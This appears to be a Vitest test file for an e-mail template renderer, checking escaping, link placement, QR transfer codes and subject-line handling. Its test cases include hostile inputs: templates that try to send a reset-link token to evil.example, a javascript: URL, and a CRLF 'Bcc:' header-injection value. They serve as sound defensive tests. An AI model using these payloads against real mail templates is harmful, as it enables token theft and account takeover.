import { describe, expect, it } from 'vitest';
import { codesIn, withDrawnCodes } from './drawn-codes.ts';
import { renderBody, renderSubject } from './render-template.ts';

const variables = {
  firstName: `<b onclick="x">Żaneta & 'Co'</b>`,
  link: 'https://office.example.com/reset/abc',
};

describe('R35 variables of e-mails', () => {
  it('are escaped', () => {
    expect(renderBody('<p>{{firstName}}, {{ firstName }}</p>', { firstName: '<i>"A"</i> & B' }, 'pl')).toBe(
      '<p>&lt;i&gt;&quot;A&quot;&lt;/i&gt; &amp; B, &lt;i&gt;&quot;A&quot;&lt;/i&gt; &amp; B</p>',
    );
  });

  it('are not read as templates themselves', () => {
    expect(renderBody('<p>{{firstName}}</p>', { firstName: '{{link}}', link: variables.link }, 'pl')).toBe(
      '<p>{{link}}</p>',
    );
  });

  it('stay empty when they are unknown, also for names that every object has', () => {
    expect(renderBody('<p>{{nothing}}{{constructor}}</p>', variables, 'pl')).toBe('<p></p>');
  });

  it.each([
    ['a complete href', '<a href="{{link}}">x</a>', `<a href="${variables.link}">x</a>`],
    [
      'a complete text',
      '<a href="{{link}}"> {{link}} </a>',
      `<a href="${variables.link}"> ${variables.link} </a>`,
    ],
    [
      'part of an href',
      '<a href="https://evil.example/{{link}}">x</a>',
      '<a href="https://evil.example/">x</a>',
    ],
    ['part of a text', '<p>https://evil.example/{{link}}</p>', '<p>https://evil.example/</p>'],
    ['another attribute', '<img src="{{link}}">', '<img src="">'],
    ['a look-alike of href', '<a data-href="{{link}}">', '<a data-href="">'],
    ['an attribute without quotes', '<a href={{link}}>', '<a href=>'],
  ])('that are addresses appear only as a complete value: %s', (_, template, rendered) => {
    expect(renderBody(template, variables, 'pl')).toBe(rendered);
  });

  it('that are addresses must be http or https', () => {
    expect(renderBody('<a href="{{link}}">x</a>', { link: 'javascript:alert(1)' }, 'pl')).toBe(
      '<a href="">x</a>',
    );
  });

  it('never appear inside a tag', () => {
    expect(
      renderBody('<a href="{{firstName}}" title="{{firstName}}">', { firstName: 'javascript:x' }, 'pl'),
    ).toBe('<a href="" title="">');
  });

  it('that are codes are pictures that are drawn later, as the complete text of an element only', () => {
    const code = { transferCode: '|PL|1"<x>&|Łódź|' };
    const html = renderBody('<p>{{transferCode}}</p>', code, 'pl');
    expect(html).toMatch(/^<p><img src="qr:[^"<>]+" width="200" height="200" alt="Kod QR przelewu"><\/p>$/);
    expect(renderBody('<p>{{transferCode}}</p>', code, 'en')).toContain('alt="QR code of the transfer"');
    expect(codesIn(html)).toEqual([code.transferCode]);
    expect(withDrawnCodes(html, (text) => `cid:${text.length}`)).toContain('<img src="cid:16"');
    expect(renderBody('<p>{{transferCode}}</p>', { transferCode: '' }, 'pl')).toBe('<p></p>');
    expect(renderBody('<p>Code: {{transferCode}}</p><a href="{{transferCode}}">x</a>', code, 'pl')).toBe(
      '<p>Code: </p><a href="">x</a>',
    );
    expect(renderSubject('{{transferCode}}', code)).toBe('');
  });

  it('stay on one line in the subject, which contains no address', () => {
    expect(
      renderSubject('Hello {{firstName}} {{link}}', { ...variables, firstName: 'A\r\nBcc: b@example.com' }),
    ).toBe('Hello A Bcc: b@example.com');
  });
});

describe('R35 no template can send the token of a link to another site', () => {
  it.each([
    '<a href="https://evil.example/?t=>{{link}}<">x</a>',
    '<img alt=">" src="https://evil.example/?t=>{{link}}<">',
    '<style>a { background: url("https://evil.example/?</b>{{link}}<b") }</style>',
    '<title>{{link}}</title>',
    '<!-- >{{link}}< -->',
    '<p title="a>{{link}}<b">x</p>',
    '<!--[if mso]><p title="--><img src=https://evil.example/?>{{link}}<">x</p><![endif]-->',
    '<a href="https://evil.example/?a=<b>{{link}}</b>',
  ])('%s', (template) => {
    expect(renderBody(template, variables, 'pl')).not.toContain(variables.link);
  });

  it('parts for Outlook have their links', () => {
    const button = (link: string) => `<!--[if mso]><v:roundrect href="${link}">x</v:roundrect><![endif]-->`;
    expect(renderBody(button('{{link}}'), variables, 'pl')).toBe(button(variables.link));
  });
});
